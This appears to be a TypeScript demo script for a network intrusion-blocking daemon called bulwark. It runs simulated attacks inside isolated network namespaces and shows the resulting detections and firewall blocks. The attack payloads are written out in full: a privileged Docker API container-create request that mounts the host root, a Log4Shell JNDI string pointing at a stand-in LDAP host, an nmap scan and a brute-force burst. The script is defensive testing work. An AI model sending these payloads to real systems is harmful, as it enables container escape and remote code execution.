/**
 * `make demo`: bulwark protecting a test host against real attacks, with readable progress.
 * Creates two network namespaces (attacker 198.51.100.10, protected 198.51.100.11; no default
 * route, nothing leaves them), starts the daemon in the protected one with the shipped
 * databases, runs the attacks, shows events / the nft blocklist / the failed reconnect /
 * `bulwark unblock`, and tears everything down.
 */
import { readFileSync, existsSync } from 'node:fs';
import { join } from 'node:path';
import { createTestNet, type Host } from '../test/e2e/netns.js';
import { startDaemon, ROOT, type DaemonHandle } from '../test/e2e/daemon.js';

const CLIENT = join(ROOT, 'test', 'e2e', 'tools', 'tcp-client.mjs');
const tty = process.stdout.isTTY;
const bold = (s: string): string => (tty ? `\x1b[1m${s}\x1b[0m` : s);
const green = (s: string): string => (tty ? `\x1b[32m${s}\x1b[0m` : s);
const red = (s: string): string => (tty ? `\x1b[31m${s}\x1b[0m` : s);
const step = (s: string): void => {
  console.log(`\n${bold('==> ' + s)}`);
};
const sleep = (ms: number): Promise<void> => new Promise((r) => setTimeout(r, ms));

interface ClientResult {
  connected: boolean;
  error: string | null;
  received: number;
}

async function tcp(from: Host, o: Record<string, unknown>): Promise<ClientResult> {
  const r = await from.exec(process.execPath, [CLIENT, JSON.stringify(o)], { timeoutMs: 20_000 });
  return JSON.parse(r.stdout.trim().split('\n').pop() ?? '{}') as ClientResult;
}

let seen = 0;
async function showNewEvents(d: DaemonHandle, wantAtLeast = 1, timeoutMs = 8000): Promise<void> {
  const end = Date.now() + timeoutMs;
  let lines: string[] = [];
  while (Date.now() < end) {
    lines = existsSync(d.eventsFile) ? readFileSync(d.eventsFile, 'utf8').split('\n').filter((l) => l.includes('"event_type":"alert"')) : [];
    if (lines.length - seen >= wantAtLeast) break;
    await sleep(100);
  }
  const fresh = lines.slice(seen);
  seen = lines.length;
  if (fresh.length === 0) console.log(red('   (no event)'));
  for (const l of fresh) {
    const e = JSON.parse(l) as { src_ip: string; dest_port: number; alert: { signature: string; action: string }; bulwark: { blocked_until?: string; block_skipped?: string; count: number } };
    const what = e.bulwark.blocked_until !== undefined ? red(`BLOCKED until ${e.bulwark.blocked_until}`) : `not blocked (${e.bulwark.block_skipped ?? 'alert only'})`;
    console.log(`   Network attack detected: ${bold(e.alert.signature)} from ${e.src_ip} to port ${e.dest_port} → ${what}`);
  }
}

async function showBlocklist(prot: Host, d: DaemonHandle): Promise<void> {
  const r = await d.cli(['blocked']);
  console.log(r.stdout.replace(/^/gm, '   '));
  const k = await prot.exec('nft', ['list', 'set', 'inet', 'bulwark', 'blocked4']);
  console.log(k.stdout.split('\n').filter((l) => l.includes('elements') || l.includes('expires')).map((l) => `   kernel: ${l.trim()}`).join('\n'));
}

async function reconnect(attacker: Host, prot: Host, port: number): Promise<void> {
  const r = await tcp(attacker, { host: prot.ip4, port, payload: 'GET / HTTP/1.1\r\n\r\n', connectTimeoutMs: 1500 });
  console.log(r.connected ? green(`   attacker reconnect to port ${port}: connected`) : red(`   attacker reconnect to port ${port}: failed (${r.error ?? 'no answer'})`));
}

async function main(): Promise<void> {
  step('Creating test hosts in network namespaces (attacker 198.51.100.10, protected 198.51.100.11)');
  const net = await createTestNet(['attacker', 'protected']);
  const attacker = net.host('attacker');
  const prot = net.host('protected');
  let daemon: DaemonHandle | undefined;
  try {
    prot.spawn(process.execPath, ['-e', "require('http').createServer((q,s)=>{s.end('hello from the protected host\\n')}).listen(8080)"]);
    await sleep(300);
    console.log('   a real HTTP server listens on the protected host, port 8080');

    step('Starting bulwark in the protected host with the shipped databases');
    daemon = await startDaemon(prot, { config: { protection: { enabled: true }, interfaces: ['eth0'], log: { level: 'info' } }, readyTimeoutMs: 30_000 });
    await daemon.waitForLog((e) => e.msg === 'protection enabled', 20_000);
    const st = JSON.parse((await daemon.cli(['protection', 'status', '--json'])).stdout) as { intercept: { intercepted: number[]; passive: number[] }; ruleset: { signatures: number } };
    console.log(`   ${st.ruleset.signatures} signatures; bulwark listens itself on ${st.intercept.intercepted.length} ports (${st.intercept.intercepted.slice(0, 12).join(', ')}, …)`);
    console.log(`   inspected passively (a local service owns them): ${st.intercept.passive.join(', ')}`);

    step('Attack 1: Docker Engine API container-create exploit to port 2375, where no service listens');
    await tcp(attacker, { host: prot.ip4, port: 2375, payload: 'POST /v1.41/containers/create HTTP/1.1\r\nHost: victim\r\nContent-Type: application/json\r\n\r\n{"Image":"alpine","HostConfig":{"Privileged":true,"Binds":["/:/host"]}}' });
    await showNewEvents(daemon);
    await showBlocklist(prot, daemon);
    await reconnect(attacker, prot, 8080);

    step('bulwark unblock restores access');
    console.log(`   $ bulwark unblock ${attacker.ip4}`);
    console.log((await daemon.cli(['unblock', attacker.ip4])).stdout.replace(/^/gm, '   '));
    await reconnect(attacker, prot, 8080);

    step('Attack 2: Log4Shell (${jndi:ldap://…}) in a request to the real HTTP server on port 8080');
    await tcp(attacker, { host: prot.ip4, port: 8080, payload: 'GET /?q=1 HTTP/1.1\r\nHost: victim\r\nUser-Agent: ${jndi:ldap://203.0.113.66:1389/Exploit}\r\n\r\n' });
    await showNewEvents(daemon);
    await reconnect(attacker, prot, 8080);
    await daemon.cli(['unblock', '--all']);

    step('Attack 3: TCP port scan (nmap -sT of ports 1-100)');
    await attacker.exec('nmap', ['-Pn', '-n', '-sT', '-T5', '--max-retries', '0', '-p', '1-100', prot.ip4], { timeoutMs: 60_000 });
    await showNewEvents(daemon);
    await daemon.cli(['unblock', '--all']);

    step('Attack 4: SSH-style brute force (12 connections to port 22 in a few seconds)');
    for (let i = 0; i < 12; i++) await tcp(attacker, { host: prot.ip4, port: 22, payload: 'SSH-2.0-Hydra\r\n', hold: 20 });
    await showNewEvents(daemon);
    await showBlocklist(prot, daemon);

    step('Metrics (excerpt of GET /metrics)');
    const m = await daemon.http('/metrics');
    for (const l of m.body.split('\n')) {
      if (/^bulwark_(blocked_hosts|blocks_total|detections_total|packets_total|intercepted_ports|block_latency_seconds_count|block_latency_seconds_sum)/.test(l)) console.log(`   ${l}`);
    }
    console.log(`\n${green('Demo finished.')} ${seen} "Network attack detected" events were written as EVE JSON (the temp directory goes with the namespaces).`);
  } finally {
    step('Tearing down');
    await daemon?.destroy();
    await net.destroy();
    console.log('   namespaces deleted');
  }
}

await main();
